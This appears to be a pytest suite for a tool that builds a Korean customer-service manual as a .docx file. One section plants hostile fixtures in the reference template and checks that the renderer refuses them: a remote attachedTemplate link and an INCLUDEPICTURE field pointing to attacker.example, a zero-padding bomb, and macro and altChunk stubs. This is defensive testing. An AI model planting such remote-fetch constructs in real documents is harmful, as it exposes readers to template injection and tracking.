"""The Word edition (manual.docx): built on the theme's reference document, read back as
XML and checked by content; a designer's reference; hostile references; tracked changes.

The slow tests convert it with LibreOffice and read the PDF with poppler: the Korean font
embedded, every word on the page, Korean broken between words.
"""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import sys
import zipfile
from functools import cache
from itertools import pairwise
from pathlib import Path

import docx
import pytest
from lxml import etree

from csmanual.diagnostics import DiagnosticError
from csmanual.project import Project
from csmanual.render.docx import DocxRenderer
from csmanual.theme import Theme
from manual_items import named_items, reader_names
from versions import earlier_sample

ROOT = Path(__file__).parents[1]
SAMPLE = ROOT / "source" / "manual.yaml"
REFERENCE = ROOT / "templates" / "docx" / "reference.docx"
SOURCES = {
    "sample": SAMPLE,
    "example.en": ROOT / "cli" / "csmanual" / "examples" / "manual.en.yaml",
    "example.ko": ROOT / "cli" / "csmanual" / "examples" / "manual.ko.yaml",
    "stress": ROOT / "tests" / "fixtures" / "pptx" / "stress.ko.yaml",
    **{p.stem: p for p in sorted((ROOT / "tests" / "fixtures" / "orgs").glob("*.yaml"))},
}
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
NS = {"w": W}
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
FRONT = ("approvals", "revisions")


def render(source: Path = SAMPLE, theme_dir: Path | None = None, changes_since=None):
    project = Project(source, theme_dir, changes_since)
    renderer = DocxRenderer()
    data = renderer.render(project.context, project.theme)
    return data, renderer.diagnostics, project.context


@cache
def built(name: str) -> tuple[bytes, dict]:
    data, _, context = render(SOURCES[name])
    return data, context


def part(data: bytes, name: str) -> etree._Element:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return etree.fromstring(archive.read(name))


def body_text(data: bytes, deleted: bool = False) -> str:
    """The document's text as a reader sees it (deletions left out unless asked for)."""
    root = part(data, "word/document.xml")
    tags = {f"{{{W}}}t"} | ({f"{{{W}}}delText"} if deleted else set())
    return "".join(e.text or "" for e in root.iter() if e.tag in tags)


def squeeze(text: str) -> str:
    return re.sub(r"\s+", "", text)


def theme_with(tmp_path: Path, change) -> Path:
    """A theme whose docx/reference.docx is the default one with `change(parts)` applied
    ({name: bytes} of its zip)."""
    with zipfile.ZipFile(REFERENCE) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    theme = tmp_path / "theme"
    (theme / "docx").mkdir(parents=True)
    with zipfile.ZipFile(theme / "docx" / "reference.docx", "w") as archive:
        for name, blob in parts.items():
            archive.writestr(name, blob)
    return theme


def edit_styles(parts: dict, old: str, new: str) -> None:
    text = parts["word/styles.xml"].decode("utf-8")
    assert old in text
    parts["word/styles.xml"] = text.replace(old, new, 1).encode("utf-8")


# --- content -----------------------------------------------------------------------------


@pytest.mark.parametrize("name", list(SOURCES))
def test_every_item_is_in_the_docx_in_order(name):
    data, context = built(name)
    text = squeeze(body_text(data))
    sections = sorted(
        (s for s in context["sections"] if s["id"] in FRONT), key=lambda s: FRONT.index(s["id"])
    )
    sections += [s for s in context["sections"] if s["id"] not in FRONT]
    items = named_items(context)
    contents_end = text.find(squeeze(sections[-1]["title"]))  # past the contents' titles
    position = text.find(squeeze(sections[0]["title"]))
    for section in sections:
        start = max(position, contents_end) if section["id"] not in FRONT else position
        position = text.find(squeeze(section["title"]), start)
        assert position >= 0, f"{name}: the title of {section['id']}"
        for words in (w for s, w in items if s == section["id"]):
            position = text.find(squeeze(words), position)
            assert position >= 0, f"{name}: {section['id']}: {words} (or out of order)"
    missing = [words for words in reader_names(context) if squeeze(words) not in text]
    assert not missing, f"{name}: {missing[:10]}"


def test_two_builds_are_byte_identical(monkeypatch):
    first, _, _ = render()
    monkeypatch.setenv("TZ", "Pacific/Kiritimati")
    second, _, _ = render()
    assert first == second
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {i.date_time for i in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_properties_and_language_come_from_the_source():
    data, context = built("sample")
    meta = context["manual"]["meta"]
    core = docx.Document(io.BytesIO(data)).core_properties
    assert core.title == meta["title"]
    assert core.subject == meta["subtitle"]
    assert core.keywords == ", ".join(meta["keywords"])
    assert core.language == "ko-KR"
    dates = [r["date"] for r in context["manual"]["revisions"]]
    assert core.created.date().isoformat() == min(dates)
    assert core.modified.date().isoformat() == max([*dates, meta["effective_date"]])
    english, _ = built("example.en")
    assert docx.Document(io.BytesIO(english)).core_properties.language == "en-US"
    lang = part(english, "word/styles.xml").find(".//w:docDefaults//w:lang", NS)
    assert lang.get(f"{{{W}}}val") == "en-US" and lang.get(f"{{{W}}}eastAsia") == "ko-KR"


def test_korean_is_set_in_the_east_asian_font():
    data, _ = built("sample")
    fonts = part(data, "word/styles.xml").find(".//w:docDefaults//w:rFonts", NS)
    assert fonts.get(f"{{{W}}}eastAsia") == "NanumGothic"
    # no run or style names a face for Latin text only: Hangul always takes w:eastAsia
    for name in ("word/styles.xml", "word/document.xml"):
        for element in part(data, name).iterfind(".//w:rFonts", NS):
            assert element.get(f"{{{W}}}eastAsia"), name


def test_footer_has_document_id_version_and_page_fields():
    data, context = built("sample")
    meta = context["manual"]["meta"]
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    footer = next(n for n in names if n.startswith("word/footer"))
    root = part(data, footer)
    text = "".join(root.itertext())
    assert meta["document_id"] in text and meta["version"] in text
    fields = [i.text.strip() for i in root.iterfind(".//w:instrText", NS)]
    assert fields == ["PAGE", "NUMPAGES"]
    header = next(n for n in names if n.startswith("word/header"))
    assert meta["title"] in "".join(part(data, header).itertext())


def test_the_cover_has_no_running_header_or_footer():
    data, _ = built("sample")
    sect = part(data, "word/document.xml").find(".//w:body/w:sectPr", NS)
    assert sect.find("w:titlePg", NS) is not None
    rels = part(data, "word/_rels/document.xml.rels")
    targets = {r.get("Id"): r.get("Target") for r in rels}
    for tag in ("headerReference", "footerReference"):
        first = sect.find(f"w:{tag}[@w:type='first']", NS)
        default = sect.find(f"w:{tag}[@w:type='default']", NS)
        rid = f"{{{R}}}id"
        assert "".join(part(data, "word/" + targets[first.get(rid)]).itertext()) == ""
        assert "".join(part(data, "word/" + targets[default.get(rid)]).itertext())


def test_headings_are_bookmarked_and_the_contents_link_to_them():
    data, context = built("sample")
    root = part(data, "word/document.xml")
    marks = {b.get(f"{{{W}}}name") for b in root.iterfind(".//w:bookmarkStart", NS)}
    assert all(len(m) <= 40 and re.fullmatch(r"[A-Za-z][A-Za-z0-9_]*", m) for m in marks)
    links = [h.get(f"{{{W}}}anchor") for h in root.iterfind(".//w:hyperlink", NS)]
    assert links and set(links) <= marks
    refs = [i.text.split()[1] for i in root.iterfind(".//w:instrText", NS) if "PAGEREF" in i.text]
    assert refs == links
    titles = [s["title"] for s in context["sections"] if s["id"] not in FRONT]
    toc1 = [
        "".join(t.text or "" for t in p.iterfind(".//w:t", NS)).strip()
        for p in root.iterfind(".//w:p", NS)
        if p.find("w:pPr/w:pStyle[@w:val='TOC1']", NS) is not None
    ]
    assert toc1 == titles
    settings = part(data, "word/settings.xml")
    assert settings.find("w:updateFields", NS) is not None


def test_every_style_used_is_in_the_reference():
    data, _ = built("sample")
    styles = {
        s.get(f"{{{W}}}styleId") for s in part(data, "word/styles.xml").iterfind("w:style", NS)
    }
    used = {
        e.get(f"{{{W}}}val")
        for e in part(data, "word/document.xml").iter()
        if e.tag in (f"{{{W}}}pStyle", f"{{{W}}}tblStyle")
    }
    assert used and used <= styles
    assert {"Heading1", "Heading2", "Caution", "ManualTable", "SignatureTable"} <= used


def test_ordered_lists_count_from_one_each():
    data, _ = built("sample")
    root = part(data, "word/document.xml")
    nums = [n.get(f"{{{W}}}val") for n in root.iterfind(".//w:numPr/w:numId", NS)]
    assert len(set(nums)) >= 2  # the flow, the key points, the statuses: one numbering each
    numbering = part(data, "word/numbering.xml")
    for num in set(nums):
        found = numbering.find(f"w:num[@w:numId='{num}']", NS)
        assert found.find("w:lvlOverride/w:startOverride", NS).get(f"{{{W}}}val") == "1"


# --- tracked changes --------------------------------------------------------------------


@pytest.fixture(scope="module")
def changed(tmp_path_factory):
    """The sample against an earlier version: a text edited, a FAQ new, a FAQ and a term gone."""
    path = earlier_sample(tmp_path_factory.mktemp("earlier"))
    data, _, context = render(SAMPLE, changes_since=str(path))
    return data, context


def test_changes_since_are_tracked_changes_by_the_revision_author(changed):
    data, context = changed
    docx.Document(io.BytesIO(data))  # python-docx opens it
    root = part(data, "word/document.xml")
    inserted = ["".join(i.itertext()) for i in root.iterfind(".//w:ins", NS) if len(i)]
    removed = ["".join(d.itertext()) for d in root.iterfind(".//w:del", NS) if len(d)]
    assert any("감정이 앞서" in text for text in inserted)
    assert "다른 회사들도 고객응대 매뉴얼을 두고 있나요?" in inserted
    assert "옛 용어" in removed and "없어진 질문" in removed
    # a term gone since then is a deleted row of the glossary, not a loose line
    gone = next(r for r in root.iterfind(".//w:tr", NS) if "옛 용어" in "".join(r.itertext()))
    assert gone.find("w:trPr/w:del", NS) is not None
    latest = context["manual"]["revisions"][-1]
    marks = list(root.iterfind(".//w:ins", NS)) + list(root.iterfind(".//w:del", NS))
    assert {m.get(f"{{{W}}}author") for m in marks} == {latest["author"]}
    assert {m.get(f"{{{W}}}date") for m in marks} == {f"{latest['date']}T00:00:00Z"}
    ids = [m.get(f"{{{W}}}id") for m in marks]
    assert len(ids) == len(set(ids))
    # the new FAQ's paragraph mark is inserted too: rejecting it leaves no empty line
    new_faq = next(
        p for p in root.iterfind(".//w:p", NS) if "다른 회사들도" in "".join(p.itertext())
    )
    assert new_faq.find("w:pPr/w:rPr/w:ins", NS) is not None
    # accepted, the text reads as the manual now; rejected, as it read before
    assert "감정이 앞서" in body_text(data) and "옛 용어" not in body_text(data)
    assert "옛 용어" in body_text(data, deleted=True)


def test_without_changes_since_there_are_no_tracked_changes():
    data, _ = built("sample")
    root = part(data, "word/document.xml")
    assert root.find(".//w:ins", NS) is None and root.find(".//w:del", NS) is None


# --- a designer's reference --------------------------------------------------------------


def test_a_designers_heading_colour_and_font_reach_the_output(tmp_path):
    def restyle(parts):
        edit_styles(
            parts,
            '<w:color w:val="1F3864"/><w:sz w:val="32"/>',
            '<w:rFonts w:ascii="NanumMyeongjo" w:hAnsi="NanumMyeongjo" '
            'w:eastAsia="NanumMyeongjo"/><w:color w:val="C00000"/><w:sz w:val="32"/>',
        )

    theme = theme_with(tmp_path, restyle)
    data, problems, _ = render(theme_dir=theme)
    default, _ = built("sample")
    assert data != default
    # a face the theme does not ship: other computers may show another font
    assert [(p.code, p.args["face"]) for p in problems] == [("W713", "NanumMyeongjo")]
    heading = part(data, "word/styles.xml").find("w:style[@w:styleId='Heading1']", NS)
    assert heading.find(".//w:color", NS).get(f"{{{W}}}val") == "C00000"
    assert heading.find(".//w:rFonts", NS).get(f"{{{W}}}eastAsia") == "NanumMyeongjo"
    assert body_text(data) == body_text(default)


def test_check_theme_names_every_missing_style(tmp_path):
    def drop(parts):
        edit_styles(
            parts,
            'w:styleId="Caution"><w:name w:val="Caution"/>',
            'w:styleId="Boxed"><w:name w:val="Boxed"/>',
        )
        edit_styles(parts, '<w:name w:val="Signature Table"/>', '<w:name w:val="Sign"/>')
        edit_styles(parts, 'w:styleId="SignatureTable"', 'w:styleId="Sign"')

    theme = theme_with(tmp_path, drop)
    with pytest.raises(DiagnosticError) as raised:
        render(theme_dir=theme)
    found = {(d.code, d.args["style"]) for d in raised.value.diagnostics}
    assert found == {("E719", "Caution"), ("E719", "Signature Table")}
    done = subprocess.run(
        [sys.executable, "-m", "csmanual", "check-theme", str(SAMPLE), "--theme", str(theme),
         "--format", "docx", "--lang", "en"],
        capture_output=True, text=True, check=False, cwd=ROOT,
    )  # fmt: skip
    assert done.returncode == 1, done.stdout + done.stderr
    assert "docx: FAILED" in done.stdout
    assert (
        "E719" in done.stdout and "'Caution'" in done.stdout and "'Signature Table'" in done.stdout
    )


def test_a_style_of_the_wrong_kind_is_e720(tmp_path):
    def retype(parts):
        edit_styles(
            parts,
            '<w:style w:type="table" w:styleId="ManualTable">',
            '<w:style w:type="paragraph" w:styleId="ManualTable">',
        )

    with pytest.raises(DiagnosticError) as raised:
        render(theme_dir=theme_with(tmp_path, retype))
    (problem,) = raised.value.diagnostics
    assert (problem.code, problem.args["style"], problem.args["found"].en) == (
        "E720",
        "Manual Table",
        "paragraph",
    )


def test_a_reference_without_an_east_asian_font_warns_w712(tmp_path):
    def latin_only(parts):
        edit_styles(parts, ' w:eastAsia="NanumGothic"', "")

    _, problems, _ = render(theme_dir=theme_with(tmp_path, latin_only))
    assert [p.code for p in problems] == ["W712"]


# --- hostile references -----------------------------------------------------------------


def _bomb(parts):
    parts["word/media/padding.xml"] = b"\0" * (65 * 2**20)


def _linked(parts):
    rels = parts["word/_rels/document.xml.rels"].decode()
    parts["word/_rels/document.xml.rels"] = rels.replace(
        "</Relationships>",
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
        'TargetMode="External"/></Relationships>',
    ).encode()


def _fetching_field(parts):
    """A header that would fetch a picture from the network when Word updates fields."""
    header = parts["word/header1.xml"].decode()
    field = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        ' INCLUDEPICTURE "http://attacker.example/p.png" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    parts["word/header1.xml"] = header.replace("</w:p>", field + "</w:p>").encode()


def _imported_chunk(parts):
    parts["word/afchunk.mht"] = b"MIME-Version: 1.0\r\n"


def _macros(parts):
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0"


@pytest.mark.parametrize(
    ("change", "code"),
    [
        (_bomb, "E716"),
        (_linked, "E717"),
        (_fetching_field, "E717"),
        (_macros, "E718"),
        (_imported_chunk, "E718"),
    ],
)
def test_a_hostile_reference_is_refused(tmp_path, change, code):
    with pytest.raises(DiagnosticError) as raised:
        render(theme_dir=theme_with(tmp_path, change))
    (problem,) = raised.value.diagnostics
    assert problem.code == code and problem.file.endswith("reference.docx")


def test_a_reference_that_is_not_a_word_document_is_e715(tmp_path):
    theme = tmp_path / "theme"
    (theme / "docx").mkdir(parents=True)
    (theme / "docx" / "reference.docx").write_bytes(b"not a zip")
    with pytest.raises(DiagnosticError) as raised:
        render(theme_dir=theme)
    assert [d.code for d in raised.value.diagnostics] == ["E715"]
    assert Theme.locate(theme).find("docx/reference.docx").exists()


# --- as a reader sees it: LibreOffice ----------------------------------------------------

needs_office = pytest.mark.skipif(
    shutil.which("soffice") is None or shutil.which("pdftotext") is None,
    reason="LibreOffice Writer and poppler-utils are needed",
)


def to_pdf(data: bytes, folder: Path) -> Path:
    source = folder / "manual.docx"
    source.write_bytes(data)
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{folder}/lo", "--headless",
         "--convert-to", "pdf", "--outdir", str(folder), str(source)],
        capture_output=True, check=True, timeout=300,
    )  # fmt: skip
    return folder / "manual.pdf"


@pytest.mark.slow
@needs_office
@pytest.mark.parametrize("name", ["sample", "example.en"])
def test_libreoffice_renders_it_with_the_font_embedded_and_nothing_off_the_page(name, tmp_path):
    data, context = built(name)
    pdf = to_pdf(data, tmp_path)
    fonts = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True).stdout
    assert "NanumGothic" in fonts and all(
        line.split()[-5] == "yes" for line in fonts.splitlines()[2:]
    ), fonts  # every font embedded
    text = subprocess.run(
        ["pdftotext", "-enc", "UTF-8", str(pdf), "-"], capture_output=True, text=True
    ).stdout
    pages = text.split(chr(12))
    footer = f"2 / {len(pages) - 1}" if name == "sample" else f"page 2 of {len(pages) - 1}"
    assert footer in pages[1] and "1 /" not in pages[0] and "page 1" not in pages[0]
    for section in context["sections"]:
        assert squeeze(section["title"]) in squeeze(text)
    bbox = subprocess.run(
        ["pdftotext", "-bbox", str(pdf), "-"], capture_output=True, text=True
    ).stdout
    page = re.search(r'<page width="([\d.]+)" height="([\d.]+)"', bbox)
    width, height = float(page.group(1)), float(page.group(2))
    off = [
        m.group(5)
        for m in re.finditer(
            r'<word xMin="([-\d.]+)" yMin="([-\d.]+)" xMax="([-\d.]+)" yMax="([-\d.]+)">([^<]*)',
            bbox,
        )
        if float(m.group(1)) < 0 or float(m.group(3)) > width or float(m.group(4)) > height
    ]
    assert not off, off[:10]


@pytest.mark.slow
@needs_office
@pytest.mark.parametrize("name", ["sample", "example.en", "hospital.ko", "saas.en"])
def test_lines_break_between_words(name, tmp_path):
    """No Korean or English word is split over two lines (a table column too narrow)."""
    data, _ = built(name)
    text = subprocess.run(
        ["pdftotext", "-enc", "UTF-8", str(to_pdf(data, tmp_path)), "-"],
        capture_output=True, text=True,
    ).stdout  # fmt: skip
    document = part(data, "word/document.xml")
    source = "\n".join(
        "".join(t.text or "" for t in p.iterfind(".//w:t", NS))
        for p in document.iterfind(".//w:p", NS)
    )  # one line a paragraph: a line that ends with its paragraph is no split word
    hangul = re.compile(r"[가-힣A-Za-z]")
    lines = [line.strip() for line in text.splitlines() if line.strip()]
    split = [
        (a, b)
        for a, b in pairwise(lines)
        if hangul.match(a[-1]) and hangul.match(b[0])
        and f"{a.split()[-1]}{b.split()[0]}" in source
        and f"{a.split()[-1]} {b.split()[0]}" not in source
    ]  # fmt: skip
    assert not split, split[:5]


def test_the_committed_reference_is_what_the_script_makes(tmp_path):
    sys.path.insert(0, str(ROOT / "tests" / "tools"))
    from make_reference_docx import make

    assert make(tmp_path / "reference.docx").read_bytes() == REFERENCE.read_bytes()


def test_a_section_theme_yaml_omits_for_docx_is_left_out_of_it(tmp_path):
    theme = tmp_path / "theme"
    theme.mkdir()
    (theme / "theme.yaml").write_text("omit:\n  docx: [glossary]\n", "utf-8")
    data, _, context = render(theme_dir=theme)
    definition = context["manual"]["glossary"][0]["definition"]
    assert definition not in body_text(data)
    assert definition in body_text(built("sample")[0])


# the children of these elements in the order WordprocessingML's schema fixes (the ones
# the writer and the reference use): Word refuses a file whose order differs
SCHEMA_ORDER = {
    "pPr": "pStyle keepNext keepLines pageBreakBefore widowControl numPr pBdr shd tabs "
    "autoSpaceDE autoSpaceDN spacing ind contextualSpacing jc outlineLvl rPr",
    "rPr": "ins del rStyle rFonts b bCs i color sz szCs u lang",
    "trPr": "cantSplit trHeight tblHeader ins del",
    "tblPr": "tblStyle tblW jc tblInd tblBorders shd tblLayout tblCellMar tblLook",
    "style": "name basedOn next link uiPriority semiHidden unhideWhenUsed qFormat rsid "
    "pPr rPr tblPr trPr tcPr tblStylePr",
    "settings": "defaultTabStop characterSpacingControl updateFields compat themeFontLang",
}


@pytest.mark.parametrize("name", ["word/document.xml", "word/styles.xml", "word/settings.xml"])
def test_elements_are_in_schema_order(name, changed):
    data, _ = changed
    for element in part(data, name).iter():
        tag = etree.QName(element).localname
        if tag not in SCHEMA_ORDER:
            continue
        order = SCHEMA_ORDER[tag].split()
        children = [etree.QName(c).localname for c in element]
        known = [c for c in children if c in order]
        assert known == sorted(known, key=order.index), (name, tag, children)


@pytest.mark.slow
@needs_office
def test_a_reference_saved_again_by_libreoffice_still_works(tmp_path):
    """A designer's round trip: Writer opens the reference and saves it as .docx; its
    styles keep their names, and the styles Writer adds in its own fonts raise nothing."""
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path}/lo", "--headless",
         "--convert-to", "docx:MS Word 2007 XML", "--outdir", str(tmp_path / "saved"),
         str(REFERENCE)],
        capture_output=True, check=True, timeout=300,
    )  # fmt: skip
    theme = tmp_path / "theme"
    (theme / "docx").mkdir(parents=True)
    (tmp_path / "saved" / "reference.docx").rename(theme / "docx" / "reference.docx")
    data, problems, _ = render(theme_dir=theme)
    assert not problems
    assert body_text(data) == body_text(built("sample")[0])
